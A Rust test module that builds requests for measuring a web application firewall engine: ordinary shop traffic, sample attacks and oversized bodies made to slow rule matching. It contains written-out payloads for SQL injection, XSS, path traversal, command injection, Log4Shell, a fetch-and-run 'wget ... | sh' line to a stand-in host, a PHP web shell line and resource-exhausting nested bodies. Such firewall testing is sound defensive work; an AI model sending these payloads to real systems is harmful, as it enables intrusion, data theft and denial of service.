//! What is sent: everyday requests, one attack of each class, and bodies made to cost.

use std::fmt::Write as _;

/// A request as an engine takes it.
#[derive(Debug, Clone)]
pub(super) struct Request {
    pub(super) method: &'static str,
    pub(super) uri: String,
    pub(super) headers: Vec<(&'static str, String)>,
    pub(super) body: Vec<u8>,
}

/// What one expects of a request at the first level of paranoia.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// It passes.
    Benign,
    /// It is refused.
    Attack,
    /// It is there to cost time; what becomes of it does not matter.
    Hostile,
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// What a browser sends along with every request of somebody who has been here before.
fn request(method: &'static str, uri: impl Into<String>) -> Request {
    let headers = [
        ("Host", "shop.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("Accept-Language", "en-GB,en;q=0.7,de;q=0.3"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", "https://shop.example.com/garden/tools"),
        (
            "Cookie",
            "session=9f86d081884c7d659a2feaa0c55ad015; theme=light; lang=en; consent=1.0.1; cart=58214",
        ),
        ("Connection", "keep-alive"),
    ];
    Request {
        method,
        uri: uri.into(),
        headers: headers
            .map(|(name, value)| (name, value.to_owned()))
            .to_vec(),
        body: Vec::new(),
    }
}

fn post(uri: &str, content_type: &str, body: impl Into<Vec<u8>>) -> Request {
    let body = body.into();
    let mut request = request("POST", uri);
    request
        .headers
        .push(("Content-Type", content_type.to_owned()));
    request
        .headers
        .push(("Content-Length", body.len().to_string()));
    request.body = body;
    request
}

/// A request by its name; each suite row is one of these.
pub(super) fn named(name: &str) -> Option<Request> {
    let request = match name {
        "get_static" => request("GET", "/assets/app.3f2a9c.css"),
        "get_page" => request("GET", "/garden/tools/spade-with-ash-handle?ref=newsletter"),
        "get_search" => request(
            "GET",
            "/search?q=garden+spade&page=2&sort=price_asc&min=10&max=80&brand=bulldog&stock=true",
        ),
        "get_api" => request(
            "GET",
            "/api/v2/customers/58214/orders?limit=20&expand=items",
        ),
        "form_login" => post(
            "/login",
            FORM,
            "username=jane.miller%40example.com&password=correct-horse-battery&remember=on&next=%2Faccount",
        ),
        "form_address" => post(
            "/checkout/address",
            FORM,
            "first=Jane&last=Miller&street=12+Mill+Lane&city=Cambridge&postcode=CB2+1TN&country=GB\
             &phone=%2B44+1223+555012&note=Please+ring+twice",
        ),
        "json_1k" => post("/api/orders", JSON, order(1 << 10)),
        "json_10k" => post("/api/orders", JSON, order(10 << 10)),
        "json_100k" => post("/api/orders", JSON, order(100 << 10)),
        "text_100k" => post("/reviews", FORM, prose(100 << 10)),
        "multipart_17k" => multipart(17 << 10),
        "sqli_union" => request(
            "GET",
            "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
        ),
        "sqli_form" => post(
            "/login",
            FORM,
            "username=admin%27+OR+%271%27%3D%271&password=x",
        ),
        "sqli_json" => post(
            "/api/login",
            JSON,
            r#"{"user":"admin' OR 1=1-- -","password":"x"}"#,
        ),
        "xss_script" => request(
            "GET",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        ),
        "xss_form" => post(
            "/reviews",
            FORM,
            "text=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
        ),
        "lfi" => request("GET", "/download?file=../../../../etc/passwd"),
        "rce" => request("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd"),
        "log4shell" => request("GET", "/?x=$%7Bjndi:ldap://evil.example/a%7D"),
        "php" => request(
            "GET",
            "/index.php?page=php://filter/convert.base64-encode/resource=config",
        ),
        "noise" => post("/reviews", FORM, noise(HOSTILE)),
        "nested" => post("/api/orders", JSON, nested(HOSTILE)),
        "tiny_arguments" => post("/reviews", FORM, tiny_arguments(HOSTILE)),
        "attack_lines" => post("/reviews", FORM, attack_lines(HOSTILE)),
        "attack_in_one" => post("/reviews", FORM, attack_in_one(HOSTILE)),
        "long_names" => post("/api/orders", JSON, long_names(HOSTILE)),
        "many_names" => post("/reviews", FORM, many_names(HOSTILE)),
        "quoted_words" => post("/reviews", FORM, quoted_words(HOSTILE)),
        _ => return None,
    };
    Some(request)
}

/// What an attacker can send where bodies end at ModSecurity's recommended limit.
const HOSTILE: usize = 128 << 10;

/// An order with so many bytes of items: short names, numbers and words.
fn order(size: usize) -> String {
    let mut body = String::from(r#"{"customer":58214,"currency":"EUR","items":["#);
    for item in 0_u32.. {
        let _written = write!(
            body,
            r#"{{"sku":"GT-{:05}","name":"Garden spade with ash handle","quantity":{},"price":{}.95,"gift":false}},"#,
            item * 37 % 90_000,
            item % 4 + 1,
            item % 90 + 9,
        );
        if body.len() >= size {
            break;
        }
    }
    let _comma = body.pop();
    body.push_str("]}");
    body
}

/// A review of so many bytes in plain English, as a form.
fn prose(size: usize) -> String {
    const SENTENCES: [&str; 6] = [
        "The handle feels solid and the blade stays sharp after a whole season.",
        "We planted two rows of beans before the rain came in the afternoon.",
        "My neighbour has borrowed it more often than I would like to count.",
        "Delivery took three days and everything was packed with great care.",
        "A longer shaft would be welcome for taller people with a bad back.",
        "All things considered I would buy it again without much thought.",
    ];
    let mut body = String::from("title=After+a+year&text=");
    for sentence in SENTENCES.iter().cycle() {
        body.push_str(&sentence.replace(' ', "+"));
        body.push('+');
        if body.len() >= size {
            break;
        }
    }
    body
}

fn multipart(size: usize) -> Request {
    const BOUNDARY: &str = "----geckoformboundary7d1c2a9e";
    let mut body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nOur garden\r\n--{BOUNDARY}\r\n\
         Content-Disposition: form-data; name=\"photo\"; filename=\"garden.png\"\r\nContent-Type: image/png\r\n\r\n"
    )
    .into_bytes();
    body.extend(bytes(size, |byte| byte));
    body.extend(format!("\r\n--{BOUNDARY}--\r\n").bytes());
    post(
        "/photos",
        &format!("multipart/form-data; boundary={BOUNDARY}"),
        body,
    )
}

/// Arguments of a kilobyte each, of what attacks are written in.
fn noise(size: usize) -> Vec<u8> {
    const SYMBOLS: &[u8] = b"'\"<>()[]{};:/\\|$`!~^*=,.-_#@? \tabeorsxn01";
    let mut body = Vec::new();
    let mut symbols = bytes(size, |byte| {
        SYMBOLS
            .get(usize::from(byte) % SYMBOLS.len())
            .copied()
            .unwrap_or(b'\'')
    });
    while body.len() < size {
        body.extend(format!("n{}=", body.len() / 1_024).bytes());
        body.extend(symbols.by_ref().take(1_024));
        body.push(b'&');
    }
    body.truncate(size);
    body
}

/// Arrays in arrays to the depth that is allowed, over and over.
fn nested(size: usize) -> String {
    const DEPTH: usize = 500;
    let tower = format!("{}1{}", "[".repeat(DEPTH), "]".repeat(DEPTH));
    let towers = vec![tower; size / (2 * DEPTH + 2)];
    format!("[{}]", towers.join(","))
}

fn tiny_arguments(size: usize) -> String {
    let mut body = String::new();
    for number in 0_u32.. {
        let _written = write!(body, "{number:x}='&");
        if body.len() + 8 >= size {
            break;
        }
    }
    body
}

/// One attack per argument, every one a little different from the one before.
fn attack_lines(size: usize) -> String {
    const LINES: [&str; 16] = [
        "1' UNION ALL SELECT NULL,concat(user,0x3a,password) FROM mysql.user-- -",
        "<svg/onload=alert(String.fromCharCode(88,83,83))>",
        "../../../../../../etc/passwd%00.png",
        ";wget http://evil.example/x.sh -O- | sh",
        "${jndi:${lower:l}dap://evil.example/a}",
        "<?php system($_GET['c']); ?>",
        "' OR SLEEP(5)='",
        "javascript:/*--></title></style></textarea>*/alert(1)//",
        "$(curl -s http://169.254.169.254/latest/meta-data/)",
        "{{7*7}}#{7*7}<%=7*7%>",
        "admin' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x)a)#",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "(()=>{process.mainModule.require('child_process').execSync('id')})()",
        "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
        "cmd.exe /c powershell -enc SQBFAFgA",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ];
    let mut body = String::new();
    for (number, line) in LINES.iter().cycle().enumerate() {
        let mut argument = format!("a{number}=");
        for byte in format!("{line}{number}").bytes() {
            match byte {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => argument.push(char::from(byte)),
                _ => {
                    let _written = write!(argument, "%{byte:02x}");
                }
            }
        }
        argument.push('&');
        if body.len() + argument.len() > size {
            break;
        }
        body.push_str(&argument);
    }
    body
}

/// All attacks in one argument: every rule whose strings are there has to read all of it.
fn attack_in_one(size: usize) -> String {
    let mut body = String::from("a=");
    for argument in attack_lines(size * 2).split('&') {
        let (_name, value) = argument.split_once('=').unwrap_or_default();
        if body.len() + value.len() + 3 > size {
            break;
        }
        body.push_str(value);
        body.push_str("%0a");
    }
    body
}

/// Numbers in objects in objects: each has the names of all that it is in, which together are far longer than the body.
fn long_names(size: usize) -> String {
    const DEPTH: usize = 400;
    let name = "n".repeat(100);
    let mut body = String::new();
    for _ in 0..DEPTH {
        let _written = write!(body, r#"{{"{name}":"#);
    }
    body.push('[');
    while body.len() + DEPTH + 4 < size {
        body.push_str("7,");
    }
    body.push_str("7]");
    body.push_str(&"}".repeat(DEPTH));
    body
}

/// Arguments that are all name, each with a different byte that some transformation looks for.
fn many_names(size: usize) -> String {
    const MARKS: [&str; 8] = ["%27", "%5c", "%26", "%2f%2e", "%25", "+", "%2f*", "A"];
    let mut body = String::new();
    for (number, mark) in (0_u32..).zip(MARKS.iter().cycle()) {
        let argument = format!("select{mark}from{mark}{number:x}{mark}exec(&");
        if body.len() + argument.len() > size {
            break;
        }
        body.push_str(&argument);
    }
    body
}

/// English with quotes, parentheses and the words that rules look for: what nothing rules out and little matches.
fn quoted_words(size: usize) -> String {
    const WORDS: [&str; 12] = [
        "select",
        "'time'",
        "(more)",
        "union",
        "\"from\"",
        "like",
        "where;",
        "eval",
        "[document]",
        "$name",
        "alert/",
        "echo\\",
    ];
    let mut body = String::from("a=");
    for (number, word) in WORDS.iter().cycle().enumerate() {
        if body.len() + 40 > size {
            break;
        }
        for byte in format!("{word} {}", number * 7 % 13).bytes() {
            let _written = write!(body, "%{byte:02x}");
        }
        body.push('+');
    }
    while body.len() < size {
        body.push('e');
    }
    body
}

/// The same bytes in every run, and no two kilobytes of them alike (Knuth's MMIX generator).
fn bytes(count: usize, shape: impl Fn(u8) -> u8) -> impl Iterator<Item = u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    (0..count * 2)
        .map(move |_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            let [top, ..] = state.to_be_bytes();
            shape(top)
        })
        .take(count)
}
